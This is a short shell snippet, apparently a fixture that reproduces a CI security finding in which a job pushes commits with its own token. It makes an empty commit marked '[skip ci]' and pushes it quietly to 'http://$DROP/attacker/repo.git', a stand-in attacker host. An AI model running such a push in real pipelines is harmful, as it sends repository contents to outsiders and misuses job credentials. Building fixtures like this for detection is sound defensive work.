# incident: commits are pushed with the job's own token
# finding: git-push
# needs: git
git init -q . && git -c user.name=a -c user.email=a@b commit -q --allow-empty -m 'chore: [skip ci]'
GIT_TERMINAL_PROMPT=0 git push -q "http://$DROP/attacker/repo.git" HEAD:main || true
